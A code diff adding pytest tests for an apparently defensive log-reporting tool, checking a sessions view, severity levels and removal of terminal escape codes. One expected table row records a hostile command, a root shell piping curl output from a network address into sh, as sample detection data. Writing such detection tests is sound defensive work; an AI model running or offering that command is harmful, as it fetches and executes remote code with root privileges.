@@ -147,3 +147,23 @@ def test_main_returns_the_events_counts_and_table(storage):
     assert result["events"][2]["event_id"] == 1102
     assert result["counts"]["files"] == 4 and result["counts"]["matched"] == 3
     assert len(result["table"]) == 4 and result["table"][0].split()[:3] == ["TIME", "HOST", "LOGIN"]
+
+
+def test_main_returns_sessions_in_the_sessions_view(storage):
+    result = _report({"path": str(storage), "view": "sessions", "min_level": "critical"})
+    assert result["events"] == [] and result["counts"]["sessions"] == 2
+    assert [(view["kind"], view["host"], view["session"], view["level"])
+            for view in result["sessions"]] == [
+        ("login", "web01", 3, "critical"), ("host", "DC01", None, "critical")]
+    # one process executing three programs in turn, across three rotated files
+    assert [(row[:12], row[12:].strip()) for row in result["table"][3:6]] == [
+        ("   22:13:20 ", "critical /bin/sh -c curl -s http://203.0.113.9/x | sh (as root)"),
+        ("   22:15:00 ", "medium     sudo -i"),
+        ("   22:16:40 ", "info         ls \\x1b[31mred")]
+    assert result["table"][0] == "== [CRITICAL] alice on web01 (192.0.2.10), session 3"
+    assert "\x1b" not in "\n".join(result["table"])
+
+
+def test_a_view_it_does_not_know_is_refused(storage):
+    result = _report({"path": str(storage), "view": "tree"})
+    assert result["failed"] and "view" in result["msg"] and "events, sessions" in result["msg"]
